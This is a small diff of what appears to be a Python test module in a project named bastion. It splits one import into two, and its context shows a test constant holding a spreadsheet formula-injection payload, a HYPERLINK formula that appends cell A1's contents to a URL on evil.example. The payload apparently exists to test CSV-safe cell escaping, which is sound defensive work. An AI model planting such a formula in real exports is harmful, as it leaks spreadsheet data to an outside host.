@@ -12,7 +12,8 @@ from fastapi.testclient import TestClient
 from bastion.access import audit
 from bastion.kernel.csvsafe import cell
 from bastion.patrol import render
-from bastion.patrol.service import StopRow, TeamSchedule
+from bastion.patrol.service import StopRow
+from bastion.patrol.service import TeamSchedule
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
